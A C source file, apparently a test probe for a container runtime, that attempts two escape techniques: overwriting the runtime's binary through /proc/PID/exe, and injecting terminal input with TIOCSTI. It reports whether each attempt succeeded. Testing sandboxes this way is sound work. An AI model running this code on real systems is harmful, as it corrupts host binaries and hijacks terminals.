/* SPDX-License-Identifier: Apache-2.0 */
/*
 * hostile: what a payload that means ill tries. Static.
 *   hostile exe SECONDS   keep each /proc/PID/exe that shows, write to it; "seen N written M"
 *   hostile sti TEXT      push TEXT into the terminal's input; "errno N" for each fd of 0 to 2
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { MOST_PIDS = 4000, KEPT = 64 };

static int kept[KEPT];
static struct stat known[KEPT];
static unsigned seen, written;

static int is_same(const struct stat *a, const struct stat *b)
{
	return a->st_ino == b->st_ino && a->st_dev == b->st_dev;
}

static int is_known(const struct stat *st)
{
	for (unsigned i = 0; i < seen; i++)
		if (is_same(&known[i], st))
			return 1;
	return 0;
}

/* A program that is not the image's own: the runtime's, if there is one. */
static void look(int pid, const struct stat own[2])
{
	struct stat st;
	char path[32];
	int fd;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || is_same(&st, &own[0]) || is_same(&st, &own[1]) || is_known(&st) ||
		seen == KEPT) {
		close(fd);
		return;
	}
	known[seen] = st;
	kept[seen++] = fd;
}

/* As long as it runs the kernel says ETXTBSY; afterwards the fd is still good. */
static void spoil(void)
{
	for (unsigned i = 0; i < seen; i++) {
		char path[32];
		int fd;

		snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
		fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd >= 0 && write(fd, "X", 1) == 1)
			written++;
		if (fd >= 0)
			close(fd);
	}
}

static int exe(int seconds)
{
	time_t end = time(NULL) + seconds;
	struct stat own[2];

	if (stat("/bin/busybox", &own[0]) < 0 || stat("/bin/hostile", &own[1]) < 0)
		return 1;
	while (time(NULL) < end) {
		for (int pid = 1; pid < MOST_PIDS; pid++)
			look(pid, own);
		spoil();
	}
	printf("seen %u written %u\n", seen, written);
	return 0;
}

static int sti(const char *text)
{
	for (int fd = 0; fd < 3; fd++) {
		int error = 0;

		for (const char *s = text; *s && error == 0; s++)
			if (ioctl(fd, TIOCSTI, s) < 0)
				error = errno;
		printf("errno %d\n", error);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "exe") == 0)
		return exe(atoi(argv[2]));
	if (argc == 3 && strcmp(argv[1], "sti") == 0)
		return sti(argv[2]);
	return 2;
}
